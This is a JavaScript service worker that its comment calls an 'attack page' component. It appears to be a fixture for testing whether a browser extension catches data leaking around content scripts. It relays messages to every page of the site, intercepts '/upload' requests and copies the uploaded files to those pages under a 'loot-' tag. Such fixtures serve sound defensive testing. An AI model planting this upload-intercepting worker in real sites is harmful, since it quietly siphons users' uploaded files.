// The attack page's service worker (worker-and-channel.html): content scripts do
// not run here. It relays every message to all the site's pages, and copies the
// files of every upload passing through it to them too.
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));

async function toPages(data) {
  for (const client of await self.clients.matchAll({ includeUncontrolled: true })) client.postMessage(data);
}

self.addEventListener('message', (event) => event.waitUntil(toPages(event.data)));

self.addEventListener('fetch', (event) => {
  const url = new URL(event.request.url);
  if (url.pathname !== '/upload' || url.searchParams.get('from')?.startsWith('loot-')) return;
  event.respondWith((async () => {
    const form = await event.request.clone().formData();
    await toPages([...form.values()].filter((value) => typeof value !== 'string'));
    return fetch(event.request);
  })());
});
